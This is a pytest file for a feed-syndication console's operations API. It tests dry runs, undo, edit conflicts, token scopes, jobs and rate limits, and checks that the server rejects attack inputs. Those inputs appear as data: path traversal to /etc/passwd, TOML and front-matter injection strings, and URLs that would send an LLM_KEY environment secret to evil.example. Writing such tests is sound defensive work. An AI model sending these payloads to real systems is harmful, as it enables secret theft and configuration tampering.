"""Operations through the API: dry run, apply, undo, edits that meet, jobs; and attacks on them."""

from __future__ import annotations

import json
import tomllib
from typing import Any

import pytest

from syndicator.console import security
from syndicator.console.api.server import list_offered_operations
from syndicator.core.fair_queue import Shares
from syndicator.operations.jobs.queue import Job
from tests.console.api.client import Answer, Client
from tests.console.conftest import Browser, Served

JSON = {"Content_Type": "application/json"}


def do(client: Client, name: str, arguments: Any, query: str = "", **headers: str) -> Answer:
    return client.ask(
        "POST", f"/operations/{name}{query}", json.dumps(arguments), **JSON, **headers
    )


def done(
    client: Client, name: str, arguments: Any, query: str = "", **headers: str
) -> dict[str, Any]:
    """The job of an operation that went well, once its feeds are built."""
    answer = do(client, name, arguments, query, **headers)
    assert answer.status in (200, 202), answer
    job: dict[str, Any] = answer.json
    while job["status"] not in ("done", "failed", "cancelled"):
        job = client.get(f"/jobs/{job['id']}")
    assert job["status"] == "done", job
    return job


def article(client: Client, place: int = 0) -> dict[str, Any]:
    found: dict[str, Any] = client.get("/articles?source=holt")["items"][place]
    return found


def files(served: Served) -> dict[str, bytes]:
    roots = (served.instance.config, served.instance.folder / "feeds/articles")
    return {
        str(path): path.read_bytes() for root in roots for path in root.rglob("*") if path.is_file()
    }


def test_a_dry_run_changes_nothing_and_a_change_is_undone(served: Served, writer: Client) -> None:
    article_id, before, known = (
        article(writer)["id"],
        files(served),
        writer.get("/changes")["items"],
    )
    tried = done(writer, "withdraw", {"id": article_id}, "?dry_run=true")
    assert (
        tried["dry_run"] and tried["result"]["withdrawn"] == article_id and tried["change"] is None
    )
    assert files(served) == before and writer.get("/changes")["items"] == known
    job = done(writer, "withdraw", {"id": article_id})
    assert writer.ask("GET", f"/articles/{article_id}").status == 404
    change = writer.get("/changes")["items"][0]
    assert (int(change["id"]), change["who"], change["act"]) == (
        job["change"],
        "token writer",
        "withdraw",
    )
    done(writer, "undo", {"number": job["change"]})
    assert article(writer)["id"] == article_id
    assert [one["taken_back"] for one in writer.get("/changes")["items"]][:2] == [False, True]


def test_an_edit_is_made_of_what_was_shown_and_of_nothing_else(
    served: Served, writer: Client
) -> None:
    article_id = article(writer, 1)["id"]
    shown = writer.ask("GET", f"/articles/{article_id}").headers["etag"]
    done(writer, "edit", {"id": article_id, "title": "By the first"}, If_Match=shown)
    status, detail = writer.problem(
        "POST",
        "/operations/edit",
        json.dumps({"id": article_id, "title": "By the second"}),
        **JSON,
        If_Match=shown,
    )
    assert status == 412 and "edited meanwhile" in detail
    status, _ = writer.problem(
        "POST", "/operations/edit", json.dumps({"id": "no meanwhile"}), **JSON, If_Match=shown
    )
    assert status == 409  # whatever its words are, it is no edit
    again = writer.ask("GET", f"/articles/{article_id}")
    assert again.json["title"] == "By the first" and again.headers["etag"] != shown
    done(
        writer,
        "edit",
        {"id": article_id, "excerpt": "Of the second."},
        If_Match=again.headers["etag"],
    )
    found = writer.get(f"/articles/{article_id}")
    assert (found["title"], found["excerpt"]) == ("By the first", "Of the second.")


def test_a_token_that_reads_may_try_and_not_change(served: Served, reader: Client) -> None:
    article_id, before = article(reader)["id"], files(served)
    for name in (name for name, one in list_offered_operations().items() if not one.is_question):
        assert do(reader, name, {"id": article_id}).status == 403
        assert do(reader, name, {"id": article_id}, "?dry_run=false").status == 403
    assert done(reader, "withdraw", {"id": article_id}, "?dry_run=true")["dry_run"]
    assert files(served) == before


def test_a_token_that_writes_may_not_change_settings(
    served: Served, reader: Client, writer: Client
) -> None:
    before, values = files(served), {"values": ["publish.limit=81"]}
    for client in (reader, writer):
        assert do(client, "change-settings", values).status == 403
        assert done(client, "change-settings", values, "?dry_run=true")["result"] == {
            "publish.limit": 81
        }
    assert files(served) == before


def test_a_token_for_settings_may_change_them_and_only_it_takes_them_back(
    served: Served, writer: Client, setter: Client
) -> None:
    path = served.instance.config / "syndicator.toml"
    before = path.read_text()
    changed = done(setter, "change-settings", {"values": ["publish.limit=81"]})["change"]
    after = path.read_text()
    assert tomllib.loads(after)["publish"]["limit"] == 81
    for number in (str(changed), f" {changed} "):
        status, detail = writer.problem(
            "POST", "/operations/undo", json.dumps({"number": number}), **JSON
        )
        assert status == 403 and "--settings" in detail
    assert path.read_text() == after
    back = done(setter, "undo", {"number": str(changed)})["change"]
    assert path.read_text() == before
    assert do(writer, "undo", {"number": str(back)}).status == 403  # which would set it again
    article_id = article(setter)["id"]
    hidden = done(setter, "withdraw", {"id": article_id})["change"]
    done(writer, "undo", {"number": str(hidden)})  # no setting
    assert writer.get(f"/articles/{article_id}")["id"] == article_id


def test_a_token_of_an_unknown_scope_reads(served: Served, setter: Client) -> None:
    path = security.find_tokens_file(served.settings.state_dir)
    tokens = path.read_text()
    path.write_text(tokens.replace('"settings ', '"everything '))
    try:
        assert do(setter, "withdraw", {"id": article(setter)["id"]}).status == 403
    finally:
        path.write_text(tokens)


def test_jobs_are_seen_and_cancelled_by_their_token_alone(
    served: Served, reader: Client, writer: Client
) -> None:
    job = done(writer, "withdraw", {"id": article(writer)["id"]}, "?dry_run=true")
    of_console = served.console.queue.add(
        "rest", {"key": "holt"}, who="operator", at="2026-11-29T00:00:00+00:00"
    )
    for article_id in (job["id"], of_console.id):
        assert reader.problem("GET", f"/jobs/{article_id}")[0] == 404
        assert reader.problem("POST", f"/jobs/{article_id}/cancel")[0] == 404
    assert reader.get("/jobs")["items"] == [] or job["id"] not in {
        one["id"] for one in reader.get("/jobs")["items"]
    }
    assert writer.get(f"/jobs/{job['id']}")["status"] == "done"
    waiting = served.console.queue.get(of_console.id)
    assert waiting is not None and waiting.status != "cancelled"
    mine = served.console.queue.add(
        "rest", {"key": "holt"}, who="token writer", at="2026-11-29T00:00:00+00:00"
    )
    assert writer.ask("POST", f"/jobs/{mine.id}/cancel").json["status"] == "cancelled"


def test_what_takes_long_is_a_job_to_come_back_to(writer: Client) -> None:
    answer = do(writer, "withdraw", {"id": article(writer)["id"]}, "?dry_run=true&wait=0")
    assert (
        answer.status in (200, 202)
        and answer.headers["location"] == f"/api/v1/jobs/{answer.json['id']}"
    )


@pytest.mark.parametrize(
    ("body", "kind", "status"),
    [
        (b"{", "application/json", 400),
        (b"[]", "application/json", 400),
        (b"1", "application/json", 400),
        (b"\xff\xfe", "application/json", 400),
        (b"[" * 50_000, "application/json", 400),
        (b"{}", "text/plain", 415),
        (b"id=1", "application/x-www-form-urlencoded", 415),
        (b"{}", "application/json; charset=utf-8", 422),
        (b'{"id": ["a"]}', "application/json", 422),
        (b'{"id": "a", "else": 1}', "application/json", 422),
        (b'{"id": "a", "purge": "perhaps"}', "application/json", 422),
    ],
)
def test_a_body_that_is_none_is_a_problem(
    writer: Client, body: bytes, kind: str, status: int
) -> None:
    assert writer.problem("POST", "/operations/withdraw", body, Content_Type=kind)[0] == status


def test_what_cannot_be_done_is_a_problem(writer: Client) -> None:
    assert writer.problem("POST", "/operations/nothing", "{}", **JSON)[0] == 404
    assert writer.problem("POST", "/operations/withdraw", '{"id": "nowhere"}', **JSON)[0] == 409
    assert writer.problem("POST", "/operations/withdraw?dry_run=perhaps", "{}", **JSON)[0] == 422
    assert (
        writer.problem("POST", "/operations/withdraw", '{"id": "x"}', **JSON, If_Match='"x"')[0]
        == 422
    )
    assert writer.problem("POST", "/operations/undo", '{"number": "999999"}', **JSON)[0] == 409


def test_a_body_beyond_what_the_server_takes_is_not_read(writer: Client) -> None:
    answer = writer.ask("POST", "/operations/edit", b"{" + b" " * 3_100_000 + b"}", **JSON)
    assert answer.status == 413


@pytest.mark.parametrize(
    "path",
    [
        "../../config/syndicator.toml",
        "/etc/passwd",
        "..%2f..%2fsecret",
        "file:///etc/passwd",
        "\0",
        "a\nb",
    ],
)
def test_no_path_leads_out_of_the_articles(served: Served, writer: Client, path: str) -> None:
    before = files(served)
    for name in ("withdraw", "hide", "edit", "release", "split"):
        answer = do(writer, name, {"id": path})
        assert answer.status in (409, 422), answer
        assert "root:" not in answer.text
    assert files(served) == before


@pytest.mark.parametrize(
    "text",
    [
        'X"\nevil = true',
        "X\n[[tag]]\nname = 'evil'",
        "X\r[[category]]",
        "X'''\nevil",
        "\\u0022evil",
        'X"]\n[evil]',
    ],
)
def test_no_text_becomes_a_table_of_the_configuration(
    served: Served, writer: Client, text: str
) -> None:
    path = served.instance.config / "taxonomy.toml"
    before = tomllib.loads(path.read_text())
    for name, arguments in (
        ("add-tag", {"name": text}),
        ("rename-tag", {"old": "AI", "new": text}),
    ):
        do(writer, name, arguments)
    after = tomllib.loads(path.read_text())
    assert after.keys() == before.keys() and after["category"] == before["category"]
    known = {str(one["name"]) for one in before["tag"]}
    assert all(set(one) <= {"name", "aliases", "description"} for one in after["tag"])
    assert {str(one["name"]) for one in after["tag"]} - known <= {
        text,
        text.strip(),
        " ".join(text.split()),
    }


@pytest.mark.parametrize(
    ("name", "arguments", "status"),
    [
        ("add", {"url": ["https://evil.example/?k=${LLM_KEY}"]}, 409),
        ("add", {"url": ["https://evil.example/?k=$%7BLLM_KEY%7D"]}, 409),
        (
            "add",
            {"sources": [{"url": "https://evil.example/", "headers_env": {"x": "LLM_KEY"}}]},
            422,
        ),
        ("change-source", {"key": "holt", "url": "https://evil.example/${LLM_KEY}"}, 409),
        ("look", {"address": "https://evil.example/${LLM_KEY}"}, 409),
        ("look", {"address": "/etc/passwd"}, 409),
        ("follow-list", {"sources": [{"url": "https://evil.example/"}], "wrapper": "{}"}, 422),
        ("follow-list", {"url": "https://evil.example/${LLM_KEY}", "wrapper": "{}"}, 409),
    ],
)
def test_no_program_has_variables_or_files_of_this_machine_sent(
    served: Served, writer: Client, name: str, arguments: dict[str, Any], status: int
) -> None:
    before = files(served)
    assert do(writer, name, arguments).status == status
    assert files(served) == before


def test_who_only_reads_reaches_no_private_network(reader: Client) -> None:
    asked = {"address": f"http://127.0.0.1:{reader.port}/", "allow": ["127.0.0.1"]}
    assert do(reader, "look", asked).status == 403


@pytest.mark.parametrize("field", ["title", "category", "language", "mute", "every", "licence"])
def test_no_field_of_a_source_becomes_another_line(
    served: Served, writer: Client, field: str
) -> None:
    path = served.instance.config / "sources.toml"
    before = {one["key"]: one for one in tomllib.loads(path.read_text())["source"]}
    for text in (
        'X"\nevil = true',
        'X"\n[[source]]\nkey = "evil"\nurl = "https://evil.example/"',
        "X'''\nevil = 1",
    ):
        do(writer, "change-source", {"key": "holt", field: text})
        after = {one["key"]: one for one in tomllib.loads(path.read_text())["source"]}
        changed = after.pop("holt")
        assert after == {key: one for key, one in before.items() if key != "holt"}
        assert changed.keys() <= {*before["holt"], field}


def test_an_edit_cannot_write_a_field_of_the_file(served: Served, writer: Client) -> None:
    article_id = article(writer, 2)["id"]
    done(
        writer,
        "edit",
        {"id": article_id, "title": "A\n---\nid: evil\nhold: true\n", "excerpt": "B\nhold: true"},
    )
    found = writer.get(f"/articles/{article_id}")
    assert (found["id"], found["hold"]) == (article_id, False)


def test_two_browsers_a_shell_and_a_program_edit_one_source_and_lose_nothing(
    served: Served, browser: Browser, writer: Client
) -> None:
    path, other = served.instance.config / "sources.toml", served.browser()
    shown = writer.ask("GET", "/sources/launchbeat").headers["etag"]
    done(writer, "change-source", {"key": "launchbeat", "title": "Of the program"}, If_Match=shown)
    served.done(
        browser.post(
            "/operations/change-source", {"key": "launchbeat", "every": "2h", "then": "apply"}
        )
    )
    path.write_text(path.read_text().replace('"Of the program"', '"Of the program"  # by hand'))
    served.done(
        other.post(
            "/operations/change-source", {"key": "launchbeat", "tags": "Money", "then": "apply"}
        )
    )
    served.instance.run("change", "change-source", "launchbeat", "--language", "en")
    late = json.dumps({"key": "launchbeat", "title": "Too late"})
    assert (
        writer.problem("POST", "/operations/change-source", late, **JSON, If_Match=shown)[0] == 412
    )
    [source] = [
        one for one in tomllib.loads(path.read_text())["source"] if one["key"] == "launchbeat"
    ]
    edited = {name: source[name] for name in ("title", "every", "tags", "language")}
    assert edited == {"title": "Of the program", "every": "2h", "tags": ["Money"], "language": "en"}
    assert "# by hand" in path.read_text()


def test_a_program_imports_a_text_and_no_file_of_this_machine(
    served: Served, writer: Client
) -> None:
    text = (
        "---\ntitle: Of elsewhere\ndate: 2026-02-11\nsource: https://else.example/a\n---\nA text.\n"
    )
    (made,) = done(writer, "import-articles", {"text": text})["result"]["articles"]
    assert writer.get(f"/articles/{made['id']}")["title"] == "Of elsewhere"
    for files_ in ({"a.md": "/etc/hostname"}, {}):
        assert do(writer, "import-articles", {"files": files_}).status == 422
    # is known already
    assert do(writer, "import-articles", {"text": text, "path": "../../etc/x.md"}).status == 200


def test_who_reads_sees_no_secret_of_what_others_asked_for(
    served: Served, reader: Client, writer: Client
) -> None:
    secret = "https://holt.example/feed?token=c2VjcmV0IQ"
    done(writer, "change-source", {"key": "holt", "url": secret})
    try:
        for path in ("/changes", "/jobs", "/sources", "/sources/holt", "/status", "/conditions"):
            assert "c2VjcmV0IQ" not in reader.ask("GET", path).text, path
    finally:
        done(writer, "undo", {"number": writer.get("/changes")["items"][0]["id"]})


def test_a_token_that_asks_for_very_much_waits_and_leaves_places_to_others(
    served: Served, reader: Client, writer: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(served.console.runner, "wake", lambda: None)
    monkeypatch.setattr(served.console.queue, "_tokens", Shares[Job](8))
    answers = [do(reader, "wake", {"key": "holt"}, "?dry_run=true&wait=0") for _ in range(3)]
    assert [answer.status for answer in answers] == [202, 202, 429] and answers[-1].headers[
        "retry-after"
    ]
    other = do(writer, "wake", {"key": "holt"}, "?dry_run=true&wait=0")
    assert other.status == 202
    for client, answer in ((reader, answers[0]), (reader, answers[1]), (writer, other)):
        assert client.ask("POST", f"/jobs/{answer.json['id']}/cancel").status == 200
    again = do(reader, "wake", {"key": "holt"}, "?dry_run=true&wait=0")
    assert again.status == 202, "a job that is queued no more takes no place"
    assert reader.ask("POST", f"/jobs/{again.json['id']}/cancel").status == 200
